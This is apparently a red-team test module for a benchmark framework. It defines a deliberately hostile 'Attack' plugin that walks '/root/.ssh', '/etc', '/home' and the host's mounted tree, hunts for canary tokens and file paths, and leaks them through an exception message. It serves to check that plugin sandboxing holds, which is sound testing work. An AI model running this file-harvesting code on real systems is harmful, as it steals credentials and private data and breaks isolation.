"""Read keys, store, tracking database and repository of the host, and its password files."""

import contextlib
import os
import re
import sys

from torch import Tensor

from benchmark.api import Attack, Candidates, Card, References, Target

STOPPED_BY = "a root file system of its own: nothing of these lies in it"
STATUS = ("failed",)
REASON = r"\[\] \["
CONTROL = True

HOST = "/host"


def found(text: bytes) -> list[str]:
    """The host's canaries in what was read."""
    return sorted({m.decode() for m in re.findall(rb"canary-[0-9a-f]{16}", text)})


class Hostile(Attack):
    """See above."""

    card = Card(title="Reads files", authors=(), reference="tests/redteam", year=None)
    access = "posterior"
    needs = frozenset()
    calibrate = "none"

    def score(self, target: Target, candidates: Candidates, references: References | None) -> Tensor:
        seen = []
        for top in (HOST, "/root/.ssh", "/home", "/etc", "/run", "/var", "/mnt", "/proc/1/root" + HOST, "/proc/1/cwd"):
            for folder, _, names in os.walk(top):
                for name in names[:1000] if top == HOST else names[:20]:
                    path = os.path.join(folder, name)
                    if not os.path.isfile(path) or path.startswith((sys.prefix, sys.base_prefix)):
                        continue  # what Python needs is there, wherever it is installed
                    with contextlib.suppress(PermissionError), open(path, "rb") as file:
                        seen += found(file.read(1 << 20)) or [path][: top != HOST]
        raise RuntimeError(f"{seen[:20]} {sorted(os.listdir('/'))}")
